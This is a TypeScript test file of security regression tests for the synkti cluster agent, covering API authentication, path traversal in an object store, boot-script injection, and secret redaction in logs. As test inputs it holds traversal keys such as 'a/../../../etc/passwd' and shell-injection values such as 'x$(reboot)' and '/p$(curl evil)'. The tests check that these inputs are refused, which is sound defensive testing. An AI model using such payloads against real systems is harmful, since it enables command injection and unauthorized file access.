/**
 * Attacks that held before issue 17 and must keep holding, replayed in process (fast):
 * the agent API without the secret and with garbage, object-store path traversal,
 * boot-script injection through user-data inputs, secrets in logs. Each is recorded in the
 * attack ledger next to the membership and audit attacks.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { validateCluster } from '@synkti/core';
import { LocalObjectStore, renderWorkerUserData } from '@synkti/cloud';
import { AgentApi } from '../../packages/agent/src/agent-api.ts';
import { createLogger } from '../../packages/agent/src/logger.ts';
import { recordAttack } from './attack-ledger.ts';

const SECRET = 'held-attacks-secret-0123456789abcdef';

test('agent API: no secret, a wrong one, or garbage with the right one gets nothing', async (t) => {
  const api = new AgentApi({
    secret: SECRET,
    port: 0,
    logger: createLogger({}, { write() {} }),
    routes: {
      'GET /status': () => ({ status: 200, body: { ok: true } }),
      'POST /v1/gossip': ({ body }) => ({ status: 200, body: { got: body } }),
    },
    maxBodyBytes: 1024,
  });
  const { url } = await api.start();
  t.after(() => api.stop());
  const none = (await fetch(`${url}/status`)).status;
  const wrong = (await fetch(`${url}/status`, { headers: { authorization: 'Bearer wrong' } })).status;
  recordAttack('agent API without the cluster secret: 401', none === 401);
  recordAttack('agent API with a wrong secret: 401', wrong === 401);
  const garbage = await fetch(`${url}/v1/gossip`, {
    method: 'POST',
    headers: { authorization: `Bearer ${SECRET}`, 'content-type': 'application/json' },
    body: '{"unterminated',
  });
  const huge = await fetch(`${url}/v1/gossip`, { method: 'POST', headers: { authorization: `Bearer ${SECRET}` }, body: 'x'.repeat(8192) });
  const still = (await fetch(`${url}/status`, { headers: { authorization: `Bearer ${SECRET}` } })).status;
  recordAttack(
    'agent API garbage and oversized bodies: 4xx, still serving',
    garbage.status === 400 && huge.status === 413 && still === 200,
  );
  assert.equal(none, 401);
  assert.equal(wrong, 401);
  assert.deepEqual([garbage.status, huge.status, still], [400, 413, 200]);
});

test('object store: keys and buckets cannot leave the store', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'synkti-held-'));
  try {
    const store = new LocalObjectStore({ root: join(dir, 'objects') });
    const attempts: [string, () => Promise<unknown>][] = [
      ['key ../../escape', () => store.put('bucket', '../../escape', 'x')],
      ['key /abs', () => store.put('bucket', '/tmp/abs', 'x')],
      ['key with ..', () => store.get('bucket', 'a/../../../etc/passwd')],
      ['bucket ..', () => store.put('..', 'k', 'x')],
    ];
    let refused = 0;
    for (const [, attempt] of attempts)
      await attempt().then(
        () => undefined,
        () => {
          refused += 1;
        },
      );
    const escaped = existsSync(join(dir, 'escape')) || existsSync(join(dir, 'objects', 'escape'));
    recordAttack('object store path traversal: refused, nothing written outside', refused === attempts.length && !escaped);
    assert.equal(refused, attempts.length);
    assert.equal(escaped, false);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('boot script: user-data inputs cannot inject shell', () => {
  const spec = validateCluster({ name: 'held', provider: 'aws', region: 'us-east-1', pools: { worker: { count: 1 } } });
  const base = {
    spec,
    bucket: 'held-bucket',
    version: '0.1.0',
    sha256: 'a'.repeat(64),
    node: { version: '20.18.1', sha256: 'b'.repeat(64) },
  };
  assert.ok(renderWorkerUserData(base).includes('held-bucket'), 'the clean inputs render (so refusals below are about the payloads)');
  const injections = [
    { ...base, bucket: 'x$(reboot)' },
    { ...base, version: '0.1.0;reboot' },
    { ...base, sha256: `${'a'.repeat(63)}\`` },
    { ...base, secretParameter: '/p$(curl evil)' },
  ];
  let refused = 0;
  for (const options of injections) {
    try {
      const script = renderWorkerUserData(options as Parameters<typeof renderWorkerUserData>[0]);
      // Rendered: it must not carry the payload unquoted.
      if (!/\$\(reboot\)|;reboot|\$\(curl/.test(script)) refused += 1;
    } catch {
      refused += 1;
    }
  }
  recordAttack('boot-script injection through user-data inputs: refused', refused === injections.length);
  assert.equal(refused, injections.length);
});

test('logs: the cluster secret and authorization headers are redacted', () => {
  let out = '';
  const logger = createLogger(
    {},
    {
      write(line: string) {
        out += line;
      },
    },
  );
  logger.warn(
    { secret: SECRET, headers: { authorization: `Bearer ${SECRET}` }, peer: { authorization: `Bearer ${SECRET}` } },
    'peer call failed',
  );
  recordAttack('secret in logs: redacted', out.length > 0 && !out.includes(SECRET));
  assert.ok(out.includes('peer call failed'));
  assert.equal(out.includes(SECRET), false);
});
